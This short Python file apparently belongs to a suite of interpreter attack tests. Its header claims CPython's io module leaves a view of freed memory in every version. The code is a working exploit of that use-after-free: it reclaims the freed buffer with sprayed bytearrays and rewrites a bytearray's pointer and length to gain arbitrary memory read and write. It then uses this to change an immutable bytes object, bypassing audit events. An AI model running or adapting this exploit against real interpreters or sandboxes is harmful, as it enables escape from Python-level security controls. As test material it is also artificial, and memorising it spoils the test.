# class: machine_code
# rule: native_code
# open: CPython's io module leaves a view of memory that it has freed, in every version: no
#   audit event, no call of libc. Other errors of an interpreter lead to the same, and only the
#   kernel could hold what follows
# success: plain Python gets a bytearray whose bounds it chooses, and changes an immutable object
# proof: word
import io
import sys

from attack import attempt

SIZE = sys.getsizeof(bytearray())  # a struct without a buffer


class Raw(io.RawIOBase):
    view = None

    def readable(self):
        return True

    def readinto(self, view):
        Raw.view = view
        return 0


def forge(address, size):
    """A bytearray whose memory is there, and what must live as long as it."""
    io.BufferedReader(Raw(), SIZE).read(1)
    view, arrays = Raw.view, []
    for _ in range(4000):
        arrays.append(bytearray())
        if int.from_bytes(view[8:16], sys.byteorder) != id(bytearray):
            continue
        words = view.cast("P")
        words[2], words[3], words[4], words[5] = size, size + 1, address, address
        for array in arrays:
            if len(array) == size:
                return array, words, arrays
    return None


@attempt
def change():
    constant = bytes(b"unchangeable")
    header = sys.getsizeof(b"") - 1
    found = forge(id(constant) + header, len(constant))
    if not found:
        return False
    array, words, _ = found
    array[0:2] = b"en"
    # Nobody frees what is not theirs.
    words[2] = words[3] = words[4] = words[5] = 0
    return constant == b"enchangeable"
